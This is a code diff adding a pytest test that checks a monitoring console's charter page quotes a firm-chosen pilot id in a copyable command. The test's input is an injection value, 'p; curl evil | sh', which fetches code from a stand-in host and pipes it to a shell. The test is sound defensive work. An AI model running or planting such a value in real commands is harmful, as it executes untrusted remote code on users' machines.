@@ -10,6 +10,7 @@ import msgspec
 import pytest
 
 from monitor.console.board_json import as_data
+from monitor.console.charter_page import charter_page
 from monitor.console.fleet_page import SORTS, Query, fleet_page
 from monitor.console.fleet_view import FleetView
 from monitor.console.owner_liveness import OwnerLiveness
@@ -328,3 +329,12 @@ def test_the_page_shows_the_alpha_used_and_the_alpha_that_may_be_spent() -> None
     page = pilot_page(board, "p-1") or ""
     assert f"Run 2 of the statistics: alpha {first} of 0.01 is used" in page
     assert f'<td data-head="Alpha used" class="number">{first} of 0.01</td>' in fleet_page(board)
+
+
+def test_a_command_to_copy_quotes_the_id_of_a_pilot() -> None:
+    """A firm chooses the id; a reader who pastes the command runs nothing else."""
+    board = FleetView()
+    board.apply(Outputs(decisions=[decision(1, "p; curl evil | sh")]))
+    page = charter_page(board, "p; curl evil | sh", 0)
+    assert page is not None
+    assert "charter show &#39;p; curl evil | sh&#39;" in page
